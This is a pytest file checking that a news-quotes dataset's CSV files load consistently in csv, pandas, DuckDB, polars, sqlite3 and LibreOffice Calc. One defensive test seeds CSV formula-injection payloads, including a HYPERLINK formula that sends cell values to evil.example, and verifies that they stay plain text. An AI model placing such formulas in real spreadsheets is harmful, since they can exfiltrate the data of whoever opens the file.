"""The CSVs load everywhere with the package's declared types: Python's csv module, pandas,
DuckDB, polars, sqlite3 and LibreOffice Calc (headless, CSV -> xlsx -> cells), and each tool
gives the same rows: umlauts, „“ marks, newlines inside a quote and empty fields intact."""

from __future__ import annotations

import csv
import json
import re
import shutil
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pytest
from helpers import build_dataset

SEED = (
    "Bürgermeisterin Jana Pohlmann sagte: „Die Brücke über die Fulda ist ‚unser Stolz‘.\n"
    "„Wir öffnen sie am 3. Mai, und zwar »pünktlich«.“\n"
    "Sie betonte, die Kosten seien gedeckt. Die Straße heißt None, sagte Pohlmann.\n"
)
TABLES = ("quotes", "entities", "mentions")
README = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("loads")
    (folder / "bruecke.txt").write_text(SEED, encoding="utf-8")
    out = folder / "out"
    result = build_dataset("--seeds", str(folder / "bruecke.txt"), "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out


def schema(package: Path, name: str) -> dict[str, str]:
    """Column -> declared Table Schema type."""
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    resource = next(r for r in descriptor["resources"] if r["name"] == name)
    return {f["name"]: f["type"] for f in resource["schema"]["fields"]}


def expected(package: Path, name: str) -> list[dict[str, Any]]:
    """The rows as the release file states them: typed, null for empty."""
    release = json.loads(next(package.glob("news-quotes-*.json")).read_text(encoding="utf-8"))
    rows: list[dict[str, Any]] = release[name]
    return rows


def test_the_crafted_package_has_what_breaks_loaders(package: Path) -> None:
    texts = [row["text"] for row in expected(package, "quotes")]
    assert any("\n" in text and "‚unser Stolz‘" in text for text in texts)
    assert "None" in " ".join(texts)  # a value that some loaders take for a missing one
    assert any(row["normalized"] is None for row in expected(package, "entities"))


@pytest.mark.parametrize("name", TABLES)
def test_csv_module(package: Path, name: str) -> None:
    kinds = schema(package, name)
    with (package / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
        rows = [
            {k: None if v == "" else int(v) if kinds[k] == "integer" else v for k, v in r.items()}
            for r in csv.DictReader(handle)
        ]
    assert rows == expected(package, name)


@pytest.mark.acceptance
@pytest.mark.parametrize("name", TABLES)
def test_pandas(package: Path, name: str) -> None:
    import pandas as pd

    kinds = schema(package, name)
    frame = pd.read_csv(
        package / f"{name}.csv",
        dtype={k: "Int64" if t == "integer" else "string" for k, t in kinds.items()},
        keep_default_na=False,  # "None", "NA" and "null" are words, not missing values
        na_values=[""],
    )
    rows = [
        {k: None if pd.isna(v) else int(v) if kinds[k] == "integer" else str(v)
         for k, v in record.items()}
        for record in frame.to_dict("records")
    ]  # fmt: skip
    assert rows == expected(package, name)


@pytest.mark.acceptance
@pytest.mark.parametrize("name", TABLES)
def test_duckdb(package: Path, name: str) -> None:
    import duckdb

    kinds = schema(package, name)
    columns = {k: "BIGINT" if t == "integer" else "VARCHAR" for k, t in kinds.items()}
    relation = duckdb.sql(
        f"SELECT * FROM read_csv(?, header = true, columns = {columns!r})",
        params=[str(package / f"{name}.csv")],
    )
    rows = [dict(zip(relation.columns, values, strict=True)) for values in relation.fetchall()]
    assert rows == expected(package, name)


@pytest.mark.acceptance
@pytest.mark.parametrize("name", TABLES)
def test_polars(package: Path, name: str) -> None:
    import polars as pl

    kinds = schema(package, name)
    frame = pl.read_csv(
        package / f"{name}.csv",
        schema={k: pl.Int64 if t == "integer" else pl.String for k, t in kinds.items()},
    )
    assert frame.to_dicts() == expected(package, name)


def test_sqlite(package: Path, tmp_path: Path) -> None:
    target = tmp_path / "news.sqlite"
    result = build_dataset("export", str(package), "--sqlite", str(target))
    assert result.returncode == 0, result.stderr
    connection = sqlite3.connect(target)
    connection.row_factory = sqlite3.Row
    for name in TABLES:
        rows = [dict(row) for row in connection.execute(f"SELECT * FROM {name}")]
        by_key = sorted(rows, key=str)
        assert by_key == sorted(expected(package, name), key=str)


# 44 comma, 34 double quote, 76 UTF-8, 1 first line, columns 1-14 as text: README's line.
INFILTER = re.search(r"--infilter=(CSV:[0-9,/]+)", README).group(1)  # type: ignore[union-attr]


def calc_sheet(csv_file: Path, tmp_path: Path) -> Any:
    """CSV_FILE converted by LibreOffice Calc headless with README's options, as a sheet."""
    from openpyxl import load_workbook

    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed: apt-get install libreoffice-calc-nogui (.ci/run does)"
    result = subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "xlsx", f"--infilter={INFILTER}", "--outdir", str(tmp_path),
         str(csv_file)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return load_workbook(tmp_path / f"{csv_file.stem}.xlsx").active


@pytest.mark.acceptance
def test_injected_formulas_stay_text_in_libreoffice(tmp_path: Path) -> None:
    """Issue 11, case 2: README's spreadsheet line turns no quote into a formula."""
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "formel.txt").write_text(
        '„=1+1*2 & " Euro kostet das Projekt"“, sagte Anna Berger.\n'
        '„=HYPERLINK("http://evil.example/?x="&D2&E2,"Mehr Informationen")“, sagte Berger.\n'
        "„@SUMME(A1:A9) bleibt ein Rätsel für uns alle“, sagte Jonas Brandt.\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    assert build_dataset("--seeds", str(seeds), "--out", str(out)).returncode == 0
    sheet = calc_sheet(out / "quotes.csv", tmp_path)
    header = [cell.value for cell in next(sheet.iter_rows())]
    texts = [row[header.index("text")] for row in sheet.iter_rows(min_row=2)]
    expected_texts = [row["text"] for row in expected(out, "quotes")]
    assert sorted(cell.value for cell in texts) == sorted(expected_texts)
    assert any(cell.value.startswith("=HYPERLINK") for cell in texts)
    assert all(cell.data_type == "s" for cell in texts), [c.data_type for c in texts]


@pytest.mark.acceptance
@pytest.mark.parametrize("name", TABLES)
def test_libreoffice_calc(package: Path, tmp_path: Path, name: str) -> None:
    sheet = calc_sheet(package / f"{name}.csv", tmp_path)
    assert sheet is not None
    header, *cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    rows = [dict(zip(header, values, strict=True)) for values in cells]
    kinds = schema(package, name)
    for row in rows:
        for key, value in row.items():
            if kinds[key] == "integer" and value is not None:
                row[key] = int(value)
            elif value is not None:
                row[key] = str(value)
    assert rows == expected(package, name)
